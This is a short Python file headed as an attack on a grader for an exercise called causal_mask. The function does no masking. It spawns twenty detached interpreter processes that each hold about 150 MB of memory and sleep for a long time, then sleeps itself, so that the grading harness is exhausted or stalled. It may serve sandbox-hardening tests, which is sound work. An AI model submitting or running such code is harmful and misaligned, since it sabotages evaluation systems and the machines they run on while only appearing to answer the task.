# attack: many small programs that share nothing with the grader
# exercise: 04 causal_mask
def causal_mask(length):
    import subprocess
    import sys
    import time

    taken = "import time; x = bytearray(b'x') * (150 * 2**20); time.sleep(1000)"
    for _ in range(20):
        subprocess.Popen([sys.executable, "-I", "-c", taken])
    time.sleep(1000)
